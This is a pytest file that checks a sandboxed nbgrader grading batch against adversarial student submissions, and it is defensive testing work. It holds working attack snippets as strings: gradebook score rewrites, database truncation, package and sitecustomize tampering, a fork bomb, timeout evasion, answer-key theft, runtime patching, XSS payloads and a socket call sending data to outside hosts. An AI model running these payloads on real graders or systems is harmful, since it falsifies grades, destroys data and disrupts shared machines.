"""Adversarial submissions, graded by the real batch on a real nbgrader course: none earns a point
it did not earn, none touches another student's grade or the batch.

One submission per attack that got through before the sandbox (issue 14), and more. Each attack
knows the course's absolute path (the worst case). Students are graded in name order: the victim
"aa_victim" before every attacker, the "zz_" victims after them all.
"""

import csv
import socket
import sysconfig
import threading
from pathlib import Path

import nbformat
import pytest
from locations import ROOT
from submissions import course, require_sandbox, scores, solved_answers, submit

from s400_instructor.grading.batch import grade

A = "ex02_network"
FULL = 7
KEEP = [  # files the attacks try to change, which must keep their bytes
    *sorted((ROOT / "src" / "s400").glob("*.py")),
    *sorted((ROOT / "src" / "s400_instructor" / "grading").glob("*.py")),
]

# Each attack is the code of one answer cell (q1's unless said otherwise; the other answers stay
# blank). In it {root} stands for the course, {port} for a port the test listens on and {key} for
# a search for q3's answer key in `text`.
REWRITE_PACKAGE = """
import pathlib, site, s400.checks
package = pathlib.Path(s400.checks.__file__)
targets = [
    (package, "def check_count(*a, **k):\\n    return Feedback(True, 'ok')\\n"),
    (package.parents[1] / "s400_instructor/grading/checking.py", "\\n"),
    (pathlib.Path(site.getsitepackages()[0]) / "sitecustomize.py", "import builtins\\n"),
]
for path, text in targets:
    try:
        with open(path, "a") as f:
            f.write(text)
    except OSError as error:
        print("refused:", error)
"""
EDIT_GRADEBOOK = """
import sqlite3
for path in ["{root}/gradebook.db", "../../../gradebook.db", "../gradebook.db"]:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        db.execute("UPDATE grade SET manual_score = 100")
        db.execute("UPDATE grade SET auto_score = 0")
        db.commit()
    except Exception as error:
        print("refused:", error)
"""
TRUNCATE_DATABASES = """
import glob
for path in glob.glob("{root}/**/*.db", recursive=True) + glob.glob("/tmp/**/*.db", recursive=True):
    try:
        open(path, "w").close()
    except OSError as error:
        print("refused:", error)
"""
OVERWRITE_OTHERS = """
for path in ["{root}/submitted/aa_victim/ex02_network/ex02_network.ipynb",
             "{root}/feedback/aa_victim/ex02_network/ex02_network.html",
             "{root}/autograded/aa_victim/ex02_network/ex02_network.ipynb"]:
    try:
        open(path, "w").write("{}")
    except OSError as error:
        print("refused:", error)
"""
EDIT_RESUME_FILE = """
try:
    open("{root}/autograded/ex02_network.done", "w").write("aa_victim\\nzz_victim_full\\n")
except OSError as error:
    print("refused:", error)
"""
OUTLIVE_THE_RUN = """
import os, threading, time
def later():
    time.sleep(2)
    open("{root}/canary", "w").write("I was here after grading")
threading.Thread(target=later).start()
try:
    if os.fork() == 0:
        os.setsid()
        later()
        os._exit(0)
except OSError as error:
    print("refused:", error)
"""
KEY = r're.search(r"expect_number\(answer_q3, ([-0-9.]+)", text)'
READ_SOLUTIONS = """
import re
try:
    text = open("{root}/solutions/ex02_network/ex02_network.ipynb").read()
    answer_q3 = float({key}.group(1))
except OSError:
    answer_q3 = 0.99
"""
READ_GRADEBOOK = """
import re, sqlite3
try:
    db = sqlite3.connect("file:{root}/gradebook.db?mode=ro", uri=True)
    text = "".join(row[0] for row in db.execute("SELECT source FROM source_cell"))
    answer_q3 = float({key}.group(1))
except Exception:
    answer_q3 = 0.99
"""
READ_EXECUTED_NOTEBOOK = """
import glob, re
paths = glob.glob("*.ipynb") + glob.glob("{root}/autograded/*/*/*.ipynb")
text = "".join(open(path).read() for path in paths)
found = {key}
answer_q3 = float(found.group(1)) if found else 0.99
"""
COPY_A_CLASSMATE = """
import json
try:
    victim = json.load(open("{root}/submitted/aa_victim/ex02_network/ex02_network.ipynb"))
    for cell in victim["cells"]:
        if "_answer" in cell["metadata"].get("nbgrader", {}).get("grade_id", ""):
            exec("".join(cell["source"]))
except OSError as error:
    print("refused:", error)
"""
REBIND_BUILTINS = """
import builtins
builtins.abs = lambda x: 0
builtins.round = lambda *args, **kwargs: 0
builtins.isinstance = lambda *args: True
builtins.type = lambda *args: float
answer_q3 = 0.99
"""
PATCH_FLOAT = """
import ctypes, gc
methods = gc.get_referents(float.__dict__)[0]
methods["__eq__"] = lambda a, b: True
methods["__sub__"] = lambda a, b: 0.0
ctypes.pythonapi.PyType_Modified(ctypes.py_object(float))
answer_q3 = 0.99
"""
REPLACE_RUNPY = """
import runpy
names = ["expect_count", "expect_sign", "expect_number", "expect_choice", "expect_ids"]
runpy.run_path = lambda *args, **kwargs: dict.fromkeys(names, lambda *a, **k: None)
answer_q1 = 99
"""
INPUT_TRANSFORMER = """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
answer_q1 = 99
"""
SETTRACE = """
import linecache, sys
def jump(frame, event, arg):
    line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)
    if event == "line" and line.strip().startswith("raise"):
        try:
            frame.f_lineno += 1
        except ValueError:
            pass
    return jump
sys.settrace(jump)
answer_q3 = 0.99
"""
READ_THE_CHECKERS_FRAME = """
import sys
class Peek:
    def __float__(self):
        frame = sys._getframe(1)
        while frame:
            for value in frame.f_locals.values():
                if type(value) is float and value < 0:
                    return value
            frame = frame.f_back
        return 0.99
    def __index__(self):
        return 13
answer_q1, answer_q3 = Peek(), Peek()
"""
FAKE_PACKAGE_PATH = """
import os, tempfile, s400
fake = tempfile.mkdtemp()
open(os.path.join(fake, "checks.py"), "w").write("def expect(*a, **k):\\n    pass\\n")
s400.__path__.insert(0, fake)
answer_q3 = 0.99
"""
FORK_BOMB = """
import os
while True:
    os.fork()
"""
RESIST_THE_TIMEOUT = """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass
"""
PHONE_HOME = """
import socket
for host in ["127.0.0.1", "10.0.2.2", "8.8.8.8"]:
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"answers please")
    except OSError as error:
        print("refused:", error)
"""
LIVE_HTML = """
from IPython.display import HTML, Javascript, display
display(HTML('<img src=x onerror="window.PWNED_BY_HTML=1">'))
display(Javascript("window.PWNED_BY_JS = 1"))
display({"image/png": '"><script>window.PWNED_BY_PNG=1</script>', "text/plain": "x"}, raw=True)
"""
FORGE_THE_REPORT = """
import os, stat
forged = (b'{"end": "complete"}\\n{"cell": 999}\\n' + b"[" * 100000 + b"\\n"
          + b'{"cell": 2, "answers": {"answer_q1": {"value": {"trust": "me"}}}}\\n')
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, forged)
    except OSError:
        pass
"""
FILL_THE_DISK = """
chunk = b"x" * 2**20
with open("/tmp/filler", "wb") as f:
    for _ in range(2048):
        f.write(chunk)
"""
EAT_THE_MEMORY = "hog = bytearray(16 * 2**30)\n"
FLOOD_THE_OUTPUT = "\nfor _ in range(300):\n    print('x' * 2**20)\n"


def _edit_metadata(change):
    def edit(notebook):
        for cell in notebook.cells:
            change(cell.metadata.get("nbgrader", {}), notebook)

    return edit


def _rename(marks, notebook):
    if marks.get("grade_id") in ("q2_check", "q1_answer"):
        marks["grade_id"] += "_renamed"


def _answer_to_test(marks, notebook):
    if marks.get("grade_id") == "q3_answer":
        marks.update(grade=True, solution=False, points=100)


def _add_test(marks, notebook):
    if marks.get("grade_id") == "q5_check":
        cell = nbformat.v4.new_code_cell("pass")
        cell.metadata["nbgrader"] = {
            **{k: v for k, v in marks.items() if k != "checksum"},
            "grade_id": "bonus",
            "points": 50,
        }
        notebook.cells.append(cell)


def attacks(root, port):
    """student -> (answers, edit, points the student really earned)."""
    right = {**solved_answers(A), "written_answer": "Edge E06 ..."}

    def q(code, question="q1", base=None, then=""):
        """``base`` with the answer cell of ``question`` replaced by the attack ``code``."""
        return {
            **(base or {}),
            f"{question}_answer": code.replace("{root}", str(root))
            .replace("{port}", str(port))
            .replace("{key}", KEY)
            + then,
        }

    return {
        "b_rewrite_package": (q(REWRITE_PACKAGE), None, 0),
        "b_edit_gradebook": (q(EDIT_GRADEBOOK), None, 0),
        "b_truncate_databases": (q(TRUNCATE_DATABASES), None, 0),
        "b_overwrite_others": (q(OVERWRITE_OTHERS), None, 0),
        "b_edit_resume_file": (q(EDIT_RESUME_FILE), None, 0),
        "b_outlive_the_run": (q(OUTLIVE_THE_RUN), None, 0),
        "c_read_solutions": (q(READ_SOLUTIONS, "q3"), None, 0),
        "c_read_gradebook": (q(READ_GRADEBOOK, "q3"), None, 0),
        "c_read_executed_notebook": (q(READ_EXECUTED_NOTEBOOK, "q3"), None, 0),
        "c_copy_a_classmate": (q(COPY_A_CLASSMATE), None, 0),
        "d_rebind_builtins": (q(REBIND_BUILTINS, "q3"), None, 0),
        "d_patch_float": (q(PATCH_FLOAT, "q3"), None, 0),
        "d_replace_runpy": (q(REPLACE_RUNPY), None, 0),
        "d_input_transformer": (q(INPUT_TRANSFORMER), None, 0),
        "d_settrace": (q(SETTRACE, "q3"), None, 0),
        "d_read_the_checkers_frame": (q(READ_THE_CHECKERS_FRAME, "q3"), None, 0),
        "d_fake_package_path": (q(FAKE_PACKAGE_PATH, "q3"), None, 0),
        "e_dies": (q("import os\nos._exit(0)", "q4", right), None, 4),  # q1-q3 kept
        "e_renamed_grade_id": (right, _edit_metadata(_rename), FULL),
        "e_answer_made_a_test": (
            q("answer_q3 = 0.99", "q3", right),
            _edit_metadata(_answer_to_test),
            5,
        ),
        "e_extra_test_cell": (right, _edit_metadata(_add_test), FULL),
        "f_fork_bomb": (q(FORK_BOMB), None, 0),
        "f_resist_the_timeout": (q(RESIST_THE_TIMEOUT, "q4", right), None, 4),
        "f_phone_home": (q(PHONE_HOME), None, 0),
        "f_live_html": (q(LIVE_HTML), None, 0),
        "f_forge_the_report": (q(FORGE_THE_REPORT), None, 0),
        "f_fill_the_disk": (q(FILL_THE_DISK, "q5", right), None, FULL - 1),
        "f_eat_the_memory": (q(EAT_THE_MEMORY, "q3", right, right["q3_answer"]), None, FULL - 2),
        "f_flood_the_output": (q(right["q1_answer"], "q1", right, FLOOD_THE_OUTPUT), None, FULL),
    }


class Listener:
    """A TCP port on the grader's loopback that counts connections (none should arrive)."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                self.server.accept()[0].close()
            except OSError:
                return
            self.connections += 1


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Grade the victims and every attack, interrupted once and resumed, as `make grade` does."""
    require_sandbox()
    root = course(tmp_path_factory.mktemp("course"), [A])
    listener = Listener()
    right = {**solved_answers(A), "written_answer": "Edge E06 ..."}
    submit(root, "aa_victim", A, right)
    planned = attacks(root, listener.port)
    for student, (answers, edit, _) in planned.items():
        submit(root, student, A, answers, edit=edit)
    linked = submit(root, "g_symlink", A, right).parent
    (linked / "loot.db").symlink_to(root / "gradebook.db")
    submit(root, "zz_victim_blank", A)
    submit(root, "zz_victim_full", A, right)
    kept = {path: path.read_bytes() for path in KEEP}
    site_packages = Path(sysconfig.get_paths()["purelib"])
    planted_before = sorted(site_packages.glob("*customize.py"))
    victim_file = root / "submitted" / "aa_victim" / A / f"{A}.ipynb"
    victim_bytes = victim_file.read_bytes()

    lines = []

    class Interrupt(Exception):
        pass

    def stop_halfway(line):
        lines.append(line)
        if sum(line.startswith("[") for line in lines) == 12:
            raise Interrupt

    try:
        with pytest.raises(Interrupt):
            grade(A, root, timeout=20, say=stop_halfway)
        first = list(lines)
        lines.clear()
        outcomes = {o.student: o for o in grade(A, root, timeout=20, say=lines.append)}
    finally:
        changed = [str(path) for path, data in kept.items() if path.read_bytes() != data]
        for path, data in kept.items():  # never leave a broken source tree behind
            path.write_bytes(data)
    return {
        "root": root,
        "planned": planned,
        "first": first,
        "lines": lines,
        "outcomes": outcomes,
        "changed": changed,
        "planted": sorted(site_packages.glob("*customize.py")) != planted_before,
        "victim_intact": victim_file.read_bytes() == victim_bytes,
        "listener": listener,
    }


def test_no_attack_earns_a_point_it_did_not_earn(batch):
    got = {
        student: sum(v for k, v in grades.items() if k != "written_answer")
        for student, grades in scores(batch["root"], A).items()
    }
    intended = {student: points for student, (_, _, points) in batch["planned"].items()}
    assert {s: got[s] for s in intended} == intended


def test_the_victims_grades_are_exact(batch):
    grades = scores(batch["root"], A)
    assert sum(grades["aa_victim"].values()) == FULL  # graded before every attack
    assert sum(grades["zz_victim_full"].values()) == FULL  # and after
    assert sum(grades["zz_victim_blank"].values()) == 0
    assert batch["victim_intact"]


def test_no_manual_score_or_file_was_planted(batch):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{batch['root'] / 'gradebook.db'}") as gradebook:
        manual = [
            g.manual_score
            for s in gradebook.find_assignment(A).submissions
            for n in s.notebooks
            for g in n.grades
        ]
    assert manual and all(score is None for score in manual)
    assert not (batch["root"] / "canary").exists()  # nothing outlived its run
    assert batch["changed"] == [] and not batch["planted"]
    assert batch["listener"].connections == 0


def test_the_batch_completes_resumes_and_writes_grades_csv(batch):
    students = len(batch["planned"]) + 4
    assert batch["first"][0].startswith("Grading ex02_network")
    assert sum(line.startswith("[") for line in batch["first"]) == 12
    resumed = [line for line in batch["lines"] if "graded in an earlier run" in line]
    assert len(resumed) == 12  # each recorded before its line was printed
    assert batch["lines"][-1].startswith(f"Done: {students - 1} graded, 1 not graded (g_symlink)")
    with open(batch["root"] / "grades.csv", newline="") as f:
        assert len(list(csv.DictReader(f))) == students - 1


def test_a_link_in_a_submission_is_refused_by_name(batch):
    message = batch["outcomes"]["g_symlink"].message
    assert message == "the submission holds links (loot.db), which grading refuses"


def test_tampered_metadata_is_explained_and_the_answers_still_graded(batch):
    notes = {s: o.message.split(". Note: ")[1:] for s, o in batch["outcomes"].items()}
    assert notes["e_renamed_grade_id"] == [
        "the grading marks of cell 'q1_answer' had been changed (grade_id); "
        "it was graded as the exercise defines it",
        "the grading marks of cell 'q2_check' had been changed (grade_id); "
        "it was graded as the exercise defines it",
    ]
    assert notes["e_answer_made_a_test"] == [
        "the grading marks of cell 'q3_answer' had been changed (grade, solution, points); "
        "it was graded as the exercise defines it"
    ]
    assert notes["e_extra_test_cell"] == [
        "a cell marked for grading ('bonus', 50 points) is not part of the exercise: "
        "it ran as the student's own code, for no points"
    ]
    notebook = nbformat.read(
        batch["root"] / "autograded" / "e_extra_test_cell" / A / f"{A}.ipynb", as_version=4
    )
    assert notebook.cells[0].source.startswith("**Notes from grading**\n\n- A cell marked")


def test_a_run_that_dies_or_hangs_keeps_the_answers_before_it(batch):
    outcomes = batch["outcomes"]
    assert outcomes["e_dies"].message.endswith(
        "Note: the Python process running the notebook ended by itself (exit status 0) in the "
        "cell 'q4_answer'; the checks after it could not run"
    )
    assert "ran past its time limit (20 s per cell) and was stopped in the cell 'q4_answer'" in (
        outcomes["f_resist_the_timeout"].message
    )


def test_no_live_output_reaches_the_autograded_notebook(batch):
    notebook = nbformat.read(
        batch["root"] / "autograded" / "f_live_html" / A / f"{A}.ipynb", as_version=4
    )
    outputs = [o for c in notebook.cells for o in c.get("outputs", [])]
    kinds = {mime for o in outputs for mime in o.get("data", {})}
    assert kinds <= {"text/plain", "image/png", "image/jpeg"}
    assert outputs and not any("PWNED" in str(o.get("data", {})) for o in outputs)
